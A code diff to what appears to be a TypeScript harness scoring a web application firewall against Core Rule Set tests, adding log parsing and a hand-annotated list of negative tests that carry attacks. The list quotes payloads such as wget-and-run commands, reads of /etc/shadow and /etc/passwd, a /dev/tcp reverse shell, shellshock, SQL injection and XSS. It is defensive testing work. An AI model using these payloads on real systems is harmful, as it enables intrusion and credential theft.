@@ -80,6 +80,8 @@ interface Outcome {
   status: number;
   /** The rules that fired, from the gateway's log. */
   rules: string[];
+  /** What inspection found, as logged: `<location> <category> <rule>` each. */
+  detections: string[];
   /** Held out of tuning (see the header). */
   heldOut: boolean;
   /** The request bytes of the last stage, as latin1 (for `--json`). */
@@ -102,6 +104,63 @@ if (dir === undefined || !['tuned', 'heldout', 'all'].includes(split)) {
   );
   process.exit(2);
 }
+
+/**
+ * Negative tests of the tuned split that carry an attack another rule is
+ * meant to catch. A CRS negative test only says that its own rule must not
+ * fire (the 932230 negatives are command injections "from old modsec
+ * regressions"); Portcullis counts a test as passed only when nothing at
+ * all blocks it. Each was read by hand and is listed with why; blocking
+ * one is not counted as a false positive (reported apart). Only tuned
+ * tests are listed: a held-out negative blocked by inspection counts as a
+ * false positive, whatever it carries.
+ */
+const CARRIES_ATTACK: Record<string, string> = {
+  '920451-2': 'Content-Range in a request: the test says its sibling rule (920450) blocks it',
+  '920660-23': 'Content-Range in a request, refused by 920450 as in 920451-2',
+  '920640-2': 'select(sleep(10)); in JSON (942160)',
+  '932207-4': ';ls -al in Referer',
+  '932230-1': "system('echo cd /tmp;wget ...;perl p.txt') (from old modsec regressions)",
+  '932230-7': ';top at the start of a value (the test says it is blocked)',
+  '932230-9': "system('dig cd /tmp;ftp ...')",
+  '932230-10': "system('echo cd /tmp;wget ...') with HTML entities",
+  '932230-11': "system('echo cd /tmp;wget ...') with HTML entities",
+  '932230-12': "system('echo cd /tmp;wget ...') with HTML entities",
+  '932230-14': '<!--#exec cmd="/bin/cat /etc/shadow"--> (payloadbox list)',
+  '932230-15': '\ncat /etc/passwd; (payloadbox list)',
+  '932230-18': '<!--#exec cmd="/bin/cat /etc/shadow"-->',
+  '932230-19': '<!--#exec cmd="/bin/cat /etc/shadow"-->',
+  '932230-20': '\ncat /etc/passwd;',
+  '932230-21': '\ncat /etc/passwd;',
+  '932230-23': 'shellshock: () { :;}; /bin/bash -c "ftp ..."',
+  '932230-27': '`cut crs312``dig 34test` (the test calls it a Unix command injection)',
+  '932230-46': ';cat /path/file.gz',
+  '932250-19': 'C:\\Windows\\System32\\ls: CRS 4 930120 (lfi-os-files, windows/system32)',
+  '932260-1': 'bash -c "echo test"',
+  '932260-2': 'exec 5<>/dev/tcp/8.8.8.8/80 (a reverse shell)',
+  '932260-14': 'time curl coreruleset.org (the test calls it a command injection)',
+  '932260-15': "ti''me curl coreruleset.org (the same, with an evasion)",
+  '932271-6': '~- : the same request is 932270-2, a positive test',
+  '932390-15': 'myfunction(){ echo hello }: CRS 4 934100 (function(){)',
+  '933100-81': "system('id') (CRS 4 933160)",
+  '933131-1': "$_SERVER['test'] (933130)",
+  '933131-2': '$_COOKIE as a name (933130)',
+  '933150-34': 'printf(foo): CRS 4 933160',
+  '933160-31': 'eval( in the path: CRS 4 934100',
+  '934170-2': 'data://text/plain;base64,... (CRS 4 941130, ;base64)',
+  '941100-5': '<script>...createElement("script")...</script> in Referer',
+  '941310-9': 'alert(XSS) between malformed script tags',
+  '942101-10': "9'union all in the path",
+  '942101-11': 'union all select 1,2,3 from aa in the path',
+  '942160-12': 'BENChmARk(2999/**/999,Md5( (blind SQL injection)',
+  '942310-1': '"\' and = bar: a quote breakout with and (borderline)',
+  '942350-9': "';INSERT INTO category(id) VALUES (3)-- (the test: see 942500)",
+  '942360-29': "||(SELECT(DBMS_LDAP.INIT('169.1.1.1',19))FROM(DUAL)) (out-of-band SQLi)",
+  '942360-30': "'||(select(pg_sleep(15))where(true))||' (blind SQLi)",
+  '942521-16': "an article quoting ' OR '1'='1' -- verbatim (libinjection, CRS 4 942100)",
+  '942522-5': "'or'1 (the test: does not block normal SQLi)",
+  '942522-8': "an article quoting ' OR '1'='1' -- verbatim (libinjection, CRS 4 942100)",
+};
 
 /** Whether a test is held out of tuning: one in four, by a hash of its title (see the header). */
 function heldOut(title: string): boolean {
@@ -272,9 +331,12 @@ async function main(): Promise<void> {
           status = await send(gw.port, bytes);
           if (status !== 200) blocked = true;
         }
-        const rules = gw.logs
+        // `<location> <category> <rule>; ...`: a location may itself hold `; ` (a form key), a rule id never.
+        const detections = gw.logs
           .slice(logsBefore)
-          .flatMap((l) => String(l.detections ?? '').match(/\S+(?=;|$)/g) ?? []);
+          .flatMap((l) => String(l.detections ?? '').match(/.*? \w+ (?:pc-[a-z]+-\d+|\d{6})(?=; |$)/g) ?? [])
+          .map((d) => d.replace(/^; /, ''));
+        const rules = detections.map((d) => d.slice(d.lastIndexOf(' ') + 1));
         outcomes.push({
           file: folder,
           rule,
@@ -284,6 +346,7 @@ async function main(): Promise<void> {
           blocked,
           status,
           rules,
+          detections,
           heldOut: held,
           request,
         });
@@ -363,6 +426,17 @@ function report(outcomes: Outcome[]): void {
   const unclear = outcomes.filter((o) => o.kind === 'unclear');
   if (unclear.length > 0)
     out(`\nNot applicable (no log expectation to check): ${unclear.map((o) => o.title).join(', ')}`);
+  const byInspection = outcomes.filter((o) => o.kind === 'negative' && o.status === 403);
+  for (const held of [false, true]) {
+    const mine = byInspection.filter((o) => o.heldOut === held);
+    const negatives = outcomes.filter((o) => o.kind === 'negative' && o.heldOut === held).length;
+    if (negatives === 0) continue;
+    const attacks = mine.filter((o) => CARRIES_ATTACK[o.title] !== undefined);
+    const fps = mine.filter((o) => CARRIES_ATTACK[o.title] === undefined);
+    out(
+      `\n${held ? 'Held out' : 'Tuned'}: ${mine.length} of ${negatives} negative tests blocked by inspection; ${attacks.length} carry an attack another rule is meant to catch (CARRIES_ATTACK), ${fps.length} (${pct(fps.length, negatives)}) are false positives: ${fps.map((o) => `${o.title} [${[...new Set(o.rules)].join(' ')}]`).join(', ')}`,
+    );
+  }
   const refused = outcomes.filter((o) => o.kind === 'negative' && o.blocked && o.status !== 403);
   if (refused.length > 0)
     out(
